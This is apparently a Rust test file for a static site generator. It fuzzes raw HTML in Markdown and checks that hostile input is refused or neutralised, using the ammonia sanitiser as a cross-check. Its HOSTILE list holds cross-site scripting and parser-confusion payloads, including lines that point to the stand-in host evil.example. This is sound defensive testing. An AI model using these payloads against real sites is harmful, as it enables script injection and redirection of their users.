//! Raw HTML, where a site allows it: what is accepted is harmless, and what is harmless is accepted.
//!
//! Pages are drawn at random from the table of what is allowed, and from tags and attributes that
//! run, load, lead away or pretend. `ammonia`, a sanitiser that has nothing to do with the program's
//! own check, finds nothing to take out of a page that was built.

use crate::support::{Chance, build, code_spans, drawn, page, root, tree};
use gainsay::markdown::raw::allowed::{
    AllowedElement, AttributeValue, COMMON, ELEMENTS, ElementPlace, Holds, element,
};
use gainsay::markdown::raw::refuse::is_own;
use gainsay::pipeline::Outcome;
use rayon::prelude::*;
use scraper::{Html, Node};
use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::fmt::Write;

const MAP: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 3 2\"></svg>";

/// What the addresses that the drawn pages use become in the output is seen in these.
const SAMPLES: &str = "[one](02-b.md) [two](../static/map.svg)\n\n";

fn site(section: &str) -> Outcome {
    build(tree([
        ("gainsay.yaml", "title: Desk\nraw-html: true\n"),
        ("content/article.yaml", "title: A bridge\n"),
        ("content/01-a.md", &format!("{SAMPLES}{section}")),
        ("content/02-b.md", "---\ntitle: After\n---\n\n<p id=\"end\">Later.</p>\n"),
        ("static/map.svg", MAP),
    ]))
}

/// The part of the page that the two sections make.
fn prose(outcome: &Outcome) -> String {
    let html = page(outcome, "index.html");
    let from = html.find("<article class=\"prose\"").expect("an article");
    let from = from + html[from..].find('>').expect("a tag") + 1;
    html[from..html.find("</article>").expect("its end")].to_owned()
}

/// Draws raw HTML that is allowed.
struct Draw<'c> {
    chance: &'c mut Chance,
    /// How many names were given.
    names: usize,
}

impl Draw<'_> {
    fn one_of<T: Copy>(&mut self, of: &[T]) -> T {
        of[self.chance.below(of.len())]
    }

    fn words(&mut self) -> &'static str {
        self.one_of(&[
            "The bridge",
            "words &amp; more",
            "r&eacute;sum&eacute;",
            "1931",
            "&#8220;so&#8221;",
            "\u{6f22}\u{5b57}",
        ])
    }

    fn tag(&mut self, element: &AllowedElement) -> String {
        let mut tag = format!("<{}", element.name);
        for (name, value) in element.attributes.iter().chain(COMMON) {
            let needed = *name == "src";
            if !needed && self.chance.below(5) > 0 {
                continue;
            }
            let value = match value {
                AttributeValue::Text => {
                    self.one_of(&["", "a &lt;b>", "1931-05-01", "en", "a\nb"]).to_owned()
                }
                AttributeValue::Classes => {
                    self.one_of(&["big", "my-note  caption", "\u{e9}"]).to_owned()
                }
                AttributeValue::Id => {
                    self.names += 1;
                    format!("place-{}", self.names)
                }
                AttributeValue::Link => self
                    .one_of(&[
                        "https://council.example/?a=1&amp;b=2",
                        "02-b.md",
                        "../static/map.svg",
                        "mailto:desk@example.org",
                    ])
                    .to_owned(),
                AttributeValue::Image => "../static/map.svg".to_owned(),
                AttributeValue::Number(least, most) => self.one_of(&[*least, *most, 7]).to_string(),
                AttributeValue::Share(least, most) => {
                    let some = [least.to_string(), most.to_string(), "50%".to_owned()];
                    some[self.chance.below(3)].clone()
                }
                AttributeValue::AnyOf(words) => {
                    format!("{} {}", self.one_of(words), self.one_of(words))
                }
                AttributeValue::OneOf(words) => self.one_of(words).to_owned(),
                AttributeValue::Flag => String::new(),
            };
            let quote = self.one_of(&['"', '\'']);
            let _ = write!(tag, " {name}={quote}{value}{quote}");
        }
        if element.holds == Holds::Nothing && self.chance.below(2) == 0 {
            tag.push_str(" /");
        }
        tag.push('>');
        tag
    }

    /// What an element, or what it stands in, holds.
    fn content(
        &mut self,
        of: Option<&AllowedElement>,
        holds: Holds,
        link: bool,
        depth: usize,
    ) -> String {
        let mut html = String::new();
        let fits = |e: &&AllowedElement| match e.place {
            ElementPlace::In(names) => of.is_some_and(|of| names.contains(&of.name)),
            ElementPlace::Inline => holds != Holds::Parts,
            ElementPlace::Block => holds == Holds::Blocks,
        };
        let may: Vec<&AllowedElement> =
            ELEMENTS.iter().filter(fits).filter(|e| !(link && e.name == "a")).collect();
        for _ in 0..1 + self.chance.below(3) {
            if holds != Holds::Parts {
                html.push_str(self.words());
                html.push_str(self.one_of(&["", " ", "\n"]));
            }
            if depth > 0 && !may.is_empty() && self.chance.below(4) > 0 {
                let inner = self.one_of(&may);
                html.push_str(&self.element(inner, link, depth - 1));
            }
        }
        html
    }

    fn element(&mut self, element: &AllowedElement, link: bool, depth: usize) -> String {
        let tag = self.tag(element);
        if element.holds == Holds::Nothing {
            return tag;
        }
        let link = link || element.name == "a";
        let content = self.content(Some(element), element.holds, link, depth);
        format!("{tag}{content}</{}>", element.name)
    }

    /// A block of HTML, or a paragraph with tags in it.
    fn block(&mut self) -> String {
        if self.chance.below(3) == 0 {
            let line = self.content(None, Holds::Words, false, 2);
            // The line of a paragraph may begin with no tag, or it would be a block of HTML.
            return line.replace('\n', " ");
        }
        let div = element("div").expect("an element of the table");
        self.element(div, false, 4)
    }

    fn page(&mut self) -> Vec<String> {
        (0..1 + self.chance.below(4)).map(|_| self.block()).collect()
    }
}

/// Tags, attributes and pieces of them that run, load, lead away or pretend.
const HOSTILE: &[&str] = &[
    "<script>document.title='x'</script>",
    "<ScRiPt/src=//evil.example>",
    "<img src=x onerror=document.title=1>",
    "<img/src=\"../static/map.svg\"/onload=x()>",
    "<svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<math><mi href=\"javascript:x()\">a</mi></math>",
    "<math><mtext></p><style><img title=\"</style><img src onerror=x()>\">",
    "<iframe srcdoc=\"<script>x()</script>\"></iframe>",
    "<object data=\"x.html\"></object>",
    "<embed src=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=querySelector><button>",
    "<a href=\"javascript:x()\">",
    "<a href=\"jav&#x09;ascript:x()\">",
    "<a href=\" &#14;javascript:x()\">",
    "<a href=\"vbscript:x\">",
    "<a href=\"data:text/html,<script>x()</script>\">",
    "<a href=\"https://council.example/\" ping=\"//evil.example\">",
    "<a href=\"https://council.example/\" target=\"_top\" style=\"position:fixed\">",
    "<video poster=//evil.example autoplay><source onerror=x()></video>",
    "<picture><source srcset=//evil.example/x.png></picture>",
    "<input autofocus onfocus=x()>",
    "<details ontoggle=x() open>",
    "<mark class=\"claim\" data-c=1>",
    "<span class=\"status\">",
    "<p id=\"c-vote\">",
    "<p hidden inert contenteditable tabindex=1 accesskey=x slot=x is=x popover>",
    "<b role=alert aria-live=assertive>",
    "<table background=//evil.example/x.png>",
    "<td style=x background=//evil.example>",
    "<plaintext>",
    "<xmp><p title=\"</xmp><script>x()</script>\">",
    "<noscript><p title=\"</noscript><script>x()</script>\">",
    "<template><script>x()</script></template>",
    "<textarea><script>x()</script>",
    "<title></title>",
    "</article></main>",
    "</div>",
    "<!--",
    "-->",
    "<!-->",
    "<!-- --!><script>x()</script> -->",
    "<![CDATA[<script>x()</script>]]>",
    "<?xml-stylesheet href=//evil.example?>",
    "<!DOCTYPE html>",
    "\"",
    "'",
    ">",
    "<",
    "</",
    "\0",
    "\n\n",
    "\r",
    "<p title=\"",
    "\">",
    "&#60;script&#62;",
    "&lt;script>",
    "<custom-element>",
    "<body onload=x()>",
    "<li>",
    "<td>",
    "<p>",
    "</p>",
];

/// A string with something hostile put into it somewhere.
fn spoil(html: &str, chance: &mut Chance) -> String {
    let mut at = chance.below(html.len() + 1);
    while !html.is_char_boundary(at) {
        at -= 1;
    }
    format!("{}{}{}", &html[..at], HOSTILE[chance.below(HOSTILE.len())], &html[at..])
}

/// A document as text: elements with their attributes sorted, words, comments.
fn shape(html: &str) -> String {
    let html = Html::parse_fragment(html);
    let mut text = String::new();
    let mut left = vec![Some(html.tree.root())];
    while let Some(node) = left.pop() {
        let Some(node) = node else {
            text.push_str("\u{1}/");
            continue;
        };
        match node.value() {
            Node::Text(words) => text.push_str(words),
            Node::Comment(words) => {
                let _ = write!(text, "\u{1}!{}\u{1}", &**words);
            }
            Node::Element(element) => {
                let attributes: BTreeMap<&str, &str> = element.attrs().collect();
                let _ = write!(text, "\u{1}<{} {attributes:?}>", element.name());
                left.push(None);
            }
            _ => {}
        }
        left.extend(node.children().rev().map(Some));
    }
    text
}

/// A sanitiser that lets pass what the table lets pass, and what Markdown and the tool itself write.
fn sanitiser() -> ammonia::Builder<'static> {
    let mut sanitiser = ammonia::Builder::empty();
    let attributes: HashMap<&str, HashSet<&str>> =
        ELEMENTS.iter().map(|e| (e.name, e.attributes.iter().map(|(n, _)| *n).collect())).collect();
    sanitiser
        .tags(ELEMENTS.iter().map(|e| e.name).collect())
        .tag_attributes(attributes)
        .generic_attributes(COMMON.iter().map(|(name, _)| *name).collect())
        .url_schemes(["http", "https", "mailto"].into())
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(None)
        .strip_comments(false);
    sanitiser
}

/// What is wrong with the page that was built, if anything is.
fn objection(sanitiser: &ammonia::Builder, section: &str, outcome: &Outcome) -> Option<String> {
    let prose = prose(outcome);
    let clean = sanitiser.clean(&prose).to_string();
    let (before, after) = (shape(&prose), shape(&clean));
    (before != after).then(|| format!("{section}\n---\n{prose}\n---\n{clean}"))
}

#[test]
fn allowed_html_passes_unchanged_here_and_in_a_sanitiser() {
    let sanitiser = sanitiser();
    let wrong: Vec<String> = (0..200)
        .into_par_iter()
        .filter_map(|seed| {
            let blocks = Draw { chance: &mut Chance(seed), names: 0 }.page();
            let section = blocks.join("\n\n");
            let outcome = site(&section);
            if outcome.failed() {
                return Some(format!("{section}\n{}", drawn(&outcome)));
            }
            let prose = prose(&outcome);
            let sample = |words: &str| {
                let end = prose.find(&format!("\">{words}</a>")).expect("a sample");
                prose[prose[..end].rfind('"').expect("its address") + 1..end].to_owned()
            };
            for block in &blocks {
                // In an inner tag, an address of the output has the place of what was typed.
                let mut wanted = block.replace("'02-b.md'", "\"02-b.md\"");
                wanted = wanted.replace("'../static/map.svg'", "\"../static/map.svg\"");
                wanted = wanted.replace("02-b.md", &sample("one"));
                wanted = wanted.replace("../static/map.svg", &sample("two"));
                // Words in a paragraph are Markdown's, and written in its way.
                if block.starts_with("<div") && !prose.contains(&wanted) {
                    return Some(format!("{wanted}\nis not in\n{prose}"));
                }
            }
            objection(&sanitiser, &section, &outcome)
        })
        .collect();
    assert!(wrong.is_empty(), "{} pages:\n{}", wrong.len(), wrong[0]);
}

#[test]
fn sanitiser_finds_nothing_in_accepted_hostile_html() {
    let sanitiser = sanitiser();
    let results: Vec<Option<Option<String>>> = (0..1200)
        .into_par_iter()
        .map(|seed| {
            let chance = &mut Chance(1_000_000 + seed);
            let mut section = Draw { chance, names: 0 }.page().join("\n\n");
            for _ in 0..1 + chance.below(3) {
                section = spoil(&section, chance);
            }
            let outcome = site(&section);
            (!outcome.failed()).then(|| objection(&sanitiser, &section, &outcome))
        })
        .collect();
    let accepted = results.iter().flatten().count();
    let wrong: Vec<&String> = results.iter().flatten().flatten().collect();
    assert!(wrong.is_empty(), "{} of {accepted} accepted pages:\n{}", wrong.len(), wrong[0]);
    assert!((60..1000).contains(&accepted), "{accepted} accepted says little");
}

#[test]
fn the_sanitiser_takes_out_what_is_hostile() {
    let sanitiser = sanitiser();
    let finds = |html: &str| shape(html) != shape(&sanitiser.clean(html).to_string());
    for hostile in [
        "<p><script>x()</script></p>",
        "<p onclick=\"x()\">a</p>",
        "<a href=\"jav&#x61;script:x()\">a</a>",
        "<img src=\"data:image/png;base64,AA\" alt=\"\">",
        "<div><form action=\"x\"></form></div>",
        "<b data-c=\"1\">a</b>",
    ] {
        assert!(finds(hostile), "{hostile}");
    }
    assert!(!finds("<p class=\"a\"><a href=\"b.html\">c</a> <!-- d --></p>"));
}

#[test]
fn each_hostile_piece_is_refused_or_shown_as_text() {
    let sanitiser = sanitiser();
    for piece in HOSTILE {
        for section in [
            format!("a {piece} b\n"),
            format!("<div>\n{piece}\n</div>\n"),
            format!("<p>{piece}</p>\n"),
        ] {
            let outcome = site(&section);
            if !outcome.failed() {
                assert_eq!(objection(&sanitiser, &section, &outcome), None);
            }
        }
    }
}

#[test]
fn the_format_lists_what_the_table_allows() {
    let text = std::fs::read_to_string(root().join("docs/format.md")).expect("the document");
    let (_, list) = text.split_once("### Raw HTML\n").expect("the heading");
    let names = |cell: &str| -> Vec<String> { code_spans(cell).map(str::to_owned).collect() };
    let mut listed: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    let mut common = BTreeSet::new();
    let rows = list.lines().skip_while(|l| !l.starts_with("|---")).skip(1);
    for row in rows.take_while(|l| l.starts_with('|')) {
        let cells: Vec<&str> = row.split('|').collect();
        let attributes: BTreeSet<String> = names(cells[2]).into_iter().collect();
        if cells[1].trim() == "all of them" {
            common = attributes;
            continue;
        }
        for name in names(cells[1]) {
            assert_eq!(listed.insert(name, attributes.clone()), None, "{row}");
        }
    }
    let own =
        |of: &[(&str, AttributeValue)]| of.iter().map(|(name, _)| (*name).to_owned()).collect();
    let table: BTreeMap<String, BTreeSet<String>> =
        ELEMENTS.iter().map(|e| (e.name.to_owned(), own(e.attributes))).collect();
    assert_eq!(listed, table);
    assert_eq!(common, own(COMMON));
}

#[test]
fn classes_of_the_theme_are_refused() {
    let mut classes: BTreeSet<String> = BTreeSet::new();
    for (name, text) in gainsay::theme::TEMPLATES {
        for typed in text.split("class=\"").skip(1) {
            let typed = typed.split('"').next().unwrap_or("");
            // What a template computes is not a name.
            let (mut plain, mut rest) = (String::new(), typed);
            while let Some((before, code)) = rest.split_once('{') {
                plain.push_str(before);
                rest = code.split_once("%}").or(code.split_once("}}")).map_or("", |(_, r)| r);
            }
            plain.push_str(rest);
            assert!(!plain.contains(['%', '}']), "{name}: {typed}");
            classes.extend(plain.split_whitespace().map(str::to_owned));
        }
    }
    for (name, text) in gainsay::theme::STATIC.iter().filter(|(name, _)| name.ends_with(".css")) {
        for rule in text.split('.').skip(1) {
            let end = rule.find(|c: char| !(c.is_ascii_alphanumeric() || c == '-'));
            let class = &rule[..end.unwrap_or(rule.len())];
            if class.starts_with(|c: char| c.is_ascii_alphabetic()) && class != "css" {
                classes.insert(class.to_owned());
            }
        }
        assert!(classes.len() > 5, "{name}");
    }
    let missing: Vec<&String> = classes.iter().filter(|class| !is_own(class)).collect();
    assert!(missing.is_empty(), "{missing:?}");
    assert!(["claim", "marker", "unseen", "alert-note", "hl-string"].iter().all(|c| is_own(c)));
    assert!(!["caption", "big", "my-note", "language-rust"].iter().any(|c| is_own(c)));
}
